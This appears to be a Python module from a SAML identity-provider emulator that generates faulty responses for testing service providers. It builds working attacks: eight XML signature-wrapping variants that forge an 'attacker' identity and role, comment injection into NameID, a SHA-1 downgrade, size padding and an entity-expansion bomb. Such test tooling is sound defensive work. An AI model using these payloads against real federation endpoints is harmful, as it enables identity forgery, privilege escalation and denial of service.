"""Faults carried out on XML: edits before and after signing, wrapped signatures, and payloads that are none."""

from __future__ import annotations

import base64
import copy
import re
import zlib
from collections.abc import Callable, Sequence
from typing import Any
from urllib.parse import quote

from lxml import etree

from emulator.kernel.errors import FederationError
from idp.saml.assertion import ASSERTION_NAMESPACE, PROTOCOL_NAMESPACE, SIGNATURE_NAMESPACE
from idp.saml.faults import Fault

_SAML = f"{{{ASSERTION_NAMESPACE}}}"
_SAMLP = f"{{{PROTOCOL_NAMESPACE}}}"
_SIGNATURE = f"{{{SIGNATURE_NAMESPACE}}}Signature"
_STEP = re.compile(r"(\w+)((?:\[\d+\])?)")
_OVERSIZED_BYTES = 75_001  # in base64 the first length above 100,000 characters
EVIL_NAME = "attacker"


def edit(xml: str, faults: Sequence[Fault], *, kind: str) -> str:
    """Returns XML with the faults of one kind, ``element`` or ``tamper``, carried out.

    Raises:
        FederationError: a path leads nowhere.
    """
    wanted = [fault for fault in faults if fault.kind == kind]
    if not wanted:
        return xml
    root = etree.fromstring(xml.encode())
    for fault in wanted:
        _edit(_find(root, fault.target), fault)
    return _text(root)


def _find(root: etree._Element, path: str) -> etree._Element:
    steps = _STEP.findall(path)
    if steps and steps[0] == ("Response", ""):
        del steps[0]
    found: Any = root.xpath("." + "".join(f"/*[local-name()='{name}']{index}" for name, index in steps))
    if not found:
        raise FederationError(
            f"the Response has no {path}", expected="a path of local names such as Assertion/Subject/NameID"
        )
    element: etree._Element = found[0]
    return element


def _edit(element: etree._Element, fault: Fault) -> None:
    parent = element.getparent()
    if fault.attribute_name:
        _edit_attribute(element, fault)
    elif fault.operation == "set":
        for child in list(element):
            element.remove(child)
        element.text = fault.values[0]
    elif fault.operation == "comment":
        _comment(element, fault)
    elif parent is None:
        raise FederationError("the Response itself cannot be removed or doubled", received=fault.target)
    elif fault.operation == "duplicate":
        parent.insert(parent.index(element) + 1, copy.deepcopy(element))
    else:
        parent.remove(element)


def _edit_attribute(element: etree._Element, fault: Fault) -> None:
    if fault.operation == "set":
        element.set(fault.attribute_name, fault.values[0])
    elif fault.attribute_name in element.attrib:
        del element.attrib[fault.attribute_name]
    else:
        raise FederationError(
            f"{fault.target} has no {fault.attribute_name}",
            expected=" or ".join(map(str, element.attrib)) or "an element with attributes",
            received=fault.attribute_name,
        )


def _comment(element: etree._Element, fault: Fault) -> None:
    """Puts a comment into the middle of a text: signatures do not cover comments, and careless readers stop there."""
    text = element.text or ""
    if "--" in fault.values[0] or fault.values[0].endswith("-"):
        raise FederationError("a comment holds no -- and ends without -", received=fault.values[0])
    comment = etree.Comment(fault.values[0])
    element.text, comment.tail = text[: len(text) // 2], text[len(text) // 2 :]
    element.insert(0, comment)


def wrap(xml: str, variant: str) -> str:
    """Returns a signed Response with a forged assertion wrapped around, before or inside the signed one.

    The eight variants of the SAML Raider tool: 1 and 2 wrap the Response, 3 to 8 the assertion. The latter break the
    Response's own signature, which an attacker takes away: what is left is a valid signature, of the wrong thing.

    Raises:
        FederationError: there is no assertion to wrap.
    """
    root = etree.fromstring(xml.encode())
    original = root.find(f"{_SAML}Assertion")
    if original is None:
        raise FederationError("there is no assertion to wrap")
    evil = _evil(original)
    if variant in {"xsw1", "xsw2"}:
        return _text(_wrap_response(root, before=variant == "xsw2"))
    broken = root.find(_SIGNATURE)
    if broken is not None:
        root.remove(broken)
    position = root.index(original)
    if variant == "xsw3":
        root.insert(position, evil)
    elif variant == "xsw4":
        root.replace(original, evil)
        evil.append(original)
    elif variant == "xsw5":
        signature = original.find(_SIGNATURE)
        _move(signature, evil)
        root.replace(original, evil)
        root.append(original)
    elif variant == "xsw6":
        signature = original.find(_SIGNATURE)
        _move(signature, evil)
        root.replace(original, evil)
        if signature is not None:
            signature.append(original)
    elif variant == "xsw7":
        extensions = etree.Element(f"{_SAMLP}Extensions")
        extensions.append(evil)
        root.insert(position, extensions)
    else:
        holder = etree.Element(f"{{{SIGNATURE_NAMESPACE}}}Object")
        signature = original.find(_SIGNATURE)
        root.replace(original, evil)
        _move(signature, evil)
        holder.append(original)
        if signature is not None:
            signature.append(holder)
    return _text(root)


def _move(signature: etree._Element | None, target: etree._Element) -> None:
    if signature is not None:
        target.insert(1, signature)


def _wrap_response(root: etree._Element, *, before: bool) -> etree._Element:
    evil = copy.deepcopy(root)
    evil.set("ID", "id00000000000000000000000000")
    assertion = evil.find(f"{_SAML}Assertion")
    if assertion is not None:
        evil.replace(assertion, _evil(assertion))
    signature = evil.find(_SIGNATURE)
    original = copy.deepcopy(root)
    inner = original.find(_SIGNATURE)
    if inner is not None:
        original.remove(inner)
    if signature is not None:
        if before:
            signature.addprevious(original)
        else:
            signature.append(original)
    return evil


def _evil(assertion: etree._Element) -> etree._Element:
    evil = copy.deepcopy(assertion)
    evil.set("ID", "id11111111111111111111111111")
    signature = evil.find(_SIGNATURE)
    if signature is not None:
        evil.remove(signature)
    name_id = evil.find(f"{_SAML}Subject/{_SAML}NameID")
    if name_id is not None:
        name_id.text = EVIL_NAME
    for attribute in evil.iter(f"{_SAML}Attribute"):
        name = attribute.get("Name", "").rpartition("/")[2]
        for value in attribute:
            if name == "RoleSessionName":
                value.text = EVIL_NAME
            elif name == "Role":
                value.text = f"{(value.text or '').rpartition('/')[0]}/{EVIL_NAME}"
    return evil


def pad(xml: str, signed: str) -> str:
    """Returns an unsigned Response with so long a comment in its assertion that, signed, it is just too long for AWS.

    Args:
        xml: The Response with signature templates.
        signed: The same Response, signed: its length is known only then.
    """
    missing = _OVERSIZED_BYTES - len(signed.encode()) - len("<!---->")
    return xml.replace("</saml2:Assertion>", f"<!--{'p' * missing}--></saml2:Assertion>", 1)


def with_sha1(xml: str) -> str:
    """Returns XML whose signature templates ask for RSA-SHA1 and SHA-1."""
    return xml.replace(
        "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256", "http://www.w3.org/2000/09/xmldsig#rsa-sha1"
    ).replace("http://www.w3.org/2001/04/xmlenc#sha256", "http://www.w3.org/2000/09/xmldsig#sha1")


def payload(xml: bytes, kind: str) -> str:
    """Returns what is posted as SAMLResponse for a fault of kind ``payload``."""
    text = base64.b64encode(xml).decode()
    bomb = '<!DOCTYPE r [<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {name} "{f"&{previous};" * 10}">' for previous, name in zip("abcdefgh", "bcdefghi", strict=True)
    )
    document = xml.partition(b"?>")[2].decode()
    payloads: dict[str, Callable[[], str]] = {
        "not-base64": lambda: "*** this is not base64 ***",
        "not-xml": lambda: _encode("this is not XML"),
        "doctype": lambda: _encode(f"<!DOCTYPE Response>{document}"),
        "entity-bomb": lambda: _encode(f"{bomb}]>{document.replace('urn:amazon', '&i;urn:amazon')}"),
        "oversized": lambda: text,
        "empty": lambda: "",
        "html": lambda: _encode("<html><body>Sign in</body></html>"),
        "deflated": lambda: base64.b64encode(zlib.compress(xml)[2:-4]).decode(),
        "url-encoded": lambda: quote(text, safe="") + "%3D",
        "truncated": lambda: text[: len(text) // 2 | 1],
    }
    return payloads[kind]()


def _encode(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _text(root: etree._Element) -> str:
    return '<?xml version="1.0" encoding="UTF-8"?>' + str(etree.tostring(root, encoding="unicode"))
